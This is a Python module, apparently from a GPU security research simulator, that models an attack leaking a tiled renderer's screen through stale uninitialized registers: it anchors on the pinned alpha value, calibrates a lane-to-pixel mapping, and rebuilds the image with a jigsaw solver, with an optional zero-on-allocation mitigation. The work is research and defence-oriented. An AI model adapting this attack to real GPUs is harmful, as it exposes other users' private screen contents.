"""Tiled-rendering victim and screen reconstruction from stale registers.

A tiled renderer shades one screen tile per thread group; each lane leaves
its pixel's RGBA behind in registers r0-r3 with alpha pinned to exactly
1.0. An attacker dispatched onto the same core afterwards dumps its whole
(uninitialized) register window and looks for the alpha column: the offset
where float 1.0 shows up across nearly every lane locates the fragment
quad regardless of how register remapping displaced it. A calibration
pass that encodes each pixel's (x, y) in its own color recovers the
lane-to-pixel mapping, leaked quads collapse to grayscale, and a genetic
solver rebuilds the screen from the unordered tiles.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace
from typing import Callable, Optional, Sequence

import numpy as np

from . import jigsaw
from .config import profile
from .covert import junk_program
from .isa import Instruction, MemRef, Opcode, Program, TID, reg
from .jigsaw import GaParams, JigsawResult
from .kernels import load_kernel
from .sim import GlobalBuffer, GpuConfig, Lifecycle, Simulator

ALPHA_BITS = 0x3F800000  # float32 1.0, the pinned alpha channel
DEFAULT_TILE = 16
_QUAD = 4


# ── victim side ────────────────────────────────────────────────────────────

def pad_image(image: np.ndarray, tile_size: int) -> np.ndarray:
    img = np.asarray(image, dtype=np.float32)
    h, w = img.shape
    ph = (-h) % tile_size
    pw = (-w) % tile_size
    if ph or pw:
        img = np.pad(img, ((0, ph), (0, pw)))
    return img


def tile_colors(tile: np.ndarray) -> np.ndarray:
    """Grayscale tile -> per-pixel rgb rows with all channels equal."""
    flat = np.asarray(tile, dtype=np.float32).reshape(-1)
    return np.repeat(flat, 3).reshape(-1, 3)


def calibration_colors(tile_w: int, tile_h: int) -> np.ndarray:
    """One rgb row per pixel encoding its own coordinates: (x/255, y/255, 0)."""
    y, x = np.mgrid[0:tile_h, 0:tile_w]
    rgb = np.zeros((tile_h * tile_w, 3), dtype=np.float32)
    rgb[:, 0] = x.reshape(-1) / np.float32(255)
    rgb[:, 1] = y.reshape(-1) / np.float32(255)
    return rgb


def shade_tile(sim: Simulator, colors: np.ndarray) -> GlobalBuffer:
    """Dispatch the fragment shader for one tile (one thread group)."""
    n = colors.shape[0]
    tex = GlobalBuffer("b0", 3 * n)
    tex.fill_f32(np.ascontiguousarray(colors, dtype=np.float32).reshape(-1))
    tile_buf = GlobalBuffer("tile", _QUAD * n)
    sim.run(load_kernel("fragment_shader"), groups=1, group_size=n,
            buffers={"b0": tex, "tile": tile_buf})
    return tile_buf


@dataclass
class RenderReport:
    grid_w: int
    grid_h: int
    tile_size: int
    order: list                    # source tile index per dispatch, in order
    source_tiles: list             # ground-truth pixel blocks, source order


def render_victim(sim: Simulator, image: np.ndarray, tile_size: int = DEFAULT_TILE,
                  order: Optional[Sequence[int]] = None,
                  before_tile: Optional[Callable[[int], None]] = None,
                  after_tile: Optional[Callable[[int], None]] = None) -> RenderReport:
    """Render an image tile by tile, one thread group per tile.

    `order` fixes which source tile each dispatch draws (hardware makes no
    ordering promise, so attacks must not rely on it). The hooks run around
    each tile dispatch and receive only the dispatch position, never the
    source index.
    """
    img = pad_image(image, tile_size)
    gh, gw = img.shape[0] // tile_size, img.shape[1] // tile_size
    blocks = [img[r * tile_size:(r + 1) * tile_size, c * tile_size:(c + 1) * tile_size]
              for r in range(gh) for c in range(gw)]
    seq = list(order) if order is not None else list(range(len(blocks)))
    if sorted(seq) != list(range(len(blocks))):
        raise ValueError("order must be a permutation of all tile indices")
    for k, src in enumerate(seq):
        if before_tile is not None:
            before_tile(k)
        shade_tile(sim, tile_colors(blocks[src]))
        if after_tile is not None:
            after_tile(k)
    return RenderReport(gw, gh, tile_size, seq, blocks)


# ── attacker side ──────────────────────────────────────────────────────────

def window_probe_program(n_regs: int) -> Program:
    """Dump every register of the window, one word per register per lane."""
    body = [Instruction(Opcode.ST_GLOBAL, srcs=(reg(j),),
                        mem=MemRef("b0", TID, scale=n_regs, offset=j))
            for j in range(n_regs)]
    body.append(Instruction(Opcode.EXIT))
    return Program("window_probe", tuple(body))


def scrub_program(n_regs: int) -> Program:
    """Overwrite the whole window so older leftovers cannot masquerade."""
    body = [Instruction(Opcode.MOV_IMM, dst=reg(j), srcs=(0,))
            for j in range(n_regs)]
    body.append(Instruction(Opcode.EXIT))
    return Program("window_scrub", tuple(body))


def capture_window(sim: Simulator, n_threads: int) -> np.ndarray:
    """(threads, regs) uint32 dump of whatever the register file held."""
    n_regs = sim.cfg.regs_per_thread
    buf = GlobalBuffer("b0", n_threads * n_regs)
    sim.run(window_probe_program(n_regs), groups=1, group_size=n_threads,
            buffers={"b0": buf})
    return buf.words.reshape(n_threads, n_regs).copy()


def run_scrub(sim: Simulator, n_threads: int) -> None:
    sim.run(scrub_program(sim.cfg.regs_per_thread), groups=1,
            group_size=n_threads, buffers={})


def run_noise(sim: Simulator, n_threads: int, seed: int) -> None:
    """A bystander shader that fills the window with random (0,1) floats."""
    n_regs = sim.cfg.regs_per_thread
    rng = np.random.default_rng(seed)
    vals = rng.random(n_threads * n_regs, dtype=np.float32)
    vals[vals == 0.0] = np.float32(0.5)  # keep strictly inside (0, 1)
    buf = GlobalBuffer("b_junk", n_threads * n_regs)
    buf.fill_f32(vals)
    sim.run(junk_program(n_regs, quad=False), groups=1, group_size=n_threads,
            buffers={"b_junk": buf})


@dataclass(frozen=True)
class FragmentRecord:
    thread: int
    wave: int
    lane: int
    r: float
    g: float
    b: float
    a: float


@dataclass
class FragmentScan:
    anchor: Optional[int]          # window offset of the alpha column
    votes: int                     # lanes agreeing on that column
    alpha_ratio: float             # freq(1.0) vs next most repeated value
    fragments: list


def identify_fragments(capture: np.ndarray, wave_width: int = 32,
                       min_votes: Optional[int] = None) -> FragmentScan:
    """Classify one window dump into fragment quads, or into nothing.

    The alpha column is the window offset where the exact bit pattern of
    float 1.0 appears across (almost) every lane; random in-range floats
    never hit it exactly, so a strong majority at one offset separates
    fragment leftovers from bystander noise. The quad then sits at the
    three offsets before the anchor, wrapping around the window.
    """
    cap = np.asarray(capture)
    n_threads, n_regs = cap.shape
    if min_votes is None:
        min_votes = max(4, n_threads // 2)
    votes = (cap == np.uint32(ALPHA_BITS)).sum(axis=0)
    anchor = int(votes.argmax())
    if votes[anchor] < min_votes:
        return FragmentScan(None, int(votes[anchor]), 0.0, [])

    cols = [(anchor - 3 + i) % n_regs for i in range(4)]
    quads = cap[:, cols].astype(np.uint32).view(np.float32)
    fragments = []
    for t in range(n_threads):
        if cap[t, anchor] != ALPHA_BITS:
            continue
        r, g, b, a = (float(v) for v in quads[t])
        fragments.append(FragmentRecord(t, t // wave_width, t % wave_width,
                                        r, g, b, a))

    vals, counts = np.unique(quads[[f.thread for f in fragments]], return_counts=True)
    other = counts[vals != np.float32(1.0)]
    ones = counts[vals == np.float32(1.0)].sum()
    ratio = float(ones / other.max()) if other.size else float("inf")
    return FragmentScan(anchor, int(votes[anchor]), ratio, fragments)


@dataclass
class PixelMapping:
    """Bijection between probe threads and tile pixel coordinates."""
    tile_w: int
    tile_h: int
    pixel_of_thread: np.ndarray    # linear pixel index (y * w + x) per thread

    def __post_init__(self):
        n = self.tile_w * self.tile_h
        got = sorted(int(p) for p in self.pixel_of_thread)
        if got != list(range(n)):
            raise ValueError("pixel mapping is not a bijection over the tile")


def recover_mapping(fragments: Sequence[FragmentRecord], tile_w: int,
                    tile_h: int) -> PixelMapping:
    """Decode a calibration capture: red = x/255, green = y/255."""
    n = tile_w * tile_h
    pixel = np.full(n, -1, dtype=np.int64)
    for f in fragments:
        x = int(round(f.r * 255.0))
        y = int(round(f.g * 255.0))
        if not (0 <= x < tile_w and 0 <= y < tile_h) or f.thread >= n:
            raise ValueError("calibration fragment outside the tile")
        pixel[f.thread] = y * tile_w + x
    return PixelMapping(tile_w, tile_h, pixel)


@dataclass
class Tile:
    values: np.ndarray             # (h, w) float32 in [0, 1]
    holes: np.ndarray              # (h, w) bool, pixels nothing leaked for
    source: Optional[int] = None   # ground-truth index; unknown to attacker


def to_grayscale(fragments: Sequence[FragmentRecord], mapping: PixelMapping,
                 source: Optional[int] = None) -> Tile:
    """Collapse fragment quads to one intensity per pixel.

    Remapping makes channel identity unreliable, so duplicate channel
    values are collapsed and the distinct ones averaged; for the common
    r = g = b case that reproduces the rendered intensity exactly.
    """
    h, w = mapping.tile_h, mapping.tile_w
    values = np.zeros((h, w), dtype=np.float32)
    holes = np.ones((h, w), dtype=bool)
    for f in fragments:
        p = int(mapping.pixel_of_thread[f.thread])
        distinct = np.unique(np.array([f.r, f.g, f.b], dtype=np.float32))
        values[p // w, p % w] = np.float32(distinct.mean())
        holes[p // w, p % w] = False
    return Tile(values, holes, source)


def jigsaw_solve(tiles: Sequence, grid_w: int, grid_h: int,
                 params: Optional[GaParams] = None, seed: int = 0) -> JigsawResult:
    """Arrange recovered tiles by edge compatibility (see jigsaw module)."""
    arrays = [t.values if isinstance(t, Tile) else np.asarray(t) for t in tiles]
    return jigsaw.solve(arrays, grid_w, grid_h, params, seed)


def assemble_image(tiles: Sequence[Tile], arrangement: np.ndarray) -> np.ndarray:
    gh, gw = arrangement.shape
    th, tw = tiles[0].values.shape
    out = np.zeros((gh * th, gw * tw), dtype=np.float32)
    for r in range(gh):
        for c in range(gw):
            out[r * th:(r + 1) * th, c * tw:(c + 1) * tw] = \
                tiles[int(arrangement[r, c])].values
    return out


# ── end-to-end attack ──────────────────────────────────────────────────────

@dataclass
class PixelAttackResult:
    tiles: list                    # recovered tiles, dispatch order
    arrangement: Optional[np.ndarray]
    image: Optional[np.ndarray]
    accuracy: Optional[float]      # neighbor accuracy vs hidden ground truth
    solver: Optional[JigsawResult]
    mapping: Optional[PixelMapping]
    dispatches: int


def attack_config(seed: int = 0, mitigated: bool = False) -> GpuConfig:
    # one simd per victim wave, so a whole 256-thread tile stays resident
    cfg = replace(profile("agx"), simd_per_core=8, seed=seed)
    if mitigated:
        cfg = replace(cfg, lifecycle=Lifecycle.ZERO_ON_ALLOC)
    return cfg


def attack_render(image: np.ndarray, tile_size: int = DEFAULT_TILE,
                  seed: int = 0, mitigated: bool = False,
                  ga: Optional[GaParams] = None) -> PixelAttackResult:
    """Recover a victim's rendered image from stale register windows.

    Per tile: scrub the window (so only the newest fragments are present),
    let the victim shade, dump the window, pull fragments out by the alpha
    anchor. Tiles come back in dispatch order, which the victim chose and
    the attacker must treat as meaningless, so a jigsaw pass reorders them.
    """
    cfg = attack_config(seed, mitigated)
    sim = Simulator(cfg)
    n = tile_size * tile_size
    dispatches = 0

    def scrub(_k: int = 0) -> None:
        nonlocal dispatches
        run_scrub(sim, n)
        dispatches += 1

    # calibration: learn which probe thread shades which pixel
    scrub()
    shade_tile(sim, calibration_colors(tile_size, tile_size))
    scan = identify_fragments(capture_window(sim, n))
    dispatches += 2
    if len(scan.fragments) < n:
        return PixelAttackResult([], None, None, None, None, None, dispatches)
    mapping = recover_mapping(scan.fragments, tile_size, tile_size)

    img = pad_image(image, tile_size)
    n_tiles = (img.shape[0] // tile_size) * (img.shape[1] // tile_size)
    order = list(range(n_tiles))
    random.Random(seed ^ 0x7135).shuffle(order)

    tiles: list = []
    captures = []

    def grab(_k: int) -> None:
        nonlocal dispatches
        captures.append(capture_window(sim, n))
        dispatches += 1

    report = render_victim(sim, image, tile_size, order=order,
                           before_tile=scrub, after_tile=grab)
    dispatches += n_tiles
    for k, cap in enumerate(captures):
        scan = identify_fragments(cap)
        tiles.append(to_grayscale(scan.fragments, mapping,
                                  source=report.order[k]))

    solver = jigsaw_solve(tiles, report.grid_w, report.grid_h, ga, seed)
    out = assemble_image(tiles, solver.arrangement)
    acc = jigsaw.neighbor_accuracy(solver.arrangement,
                                   [t.source for t in tiles],
                                   report.grid_w, report.grid_h)
    return PixelAttackResult(tiles, solver.arrangement, out, acc, solver,
                             mapping, dispatches)
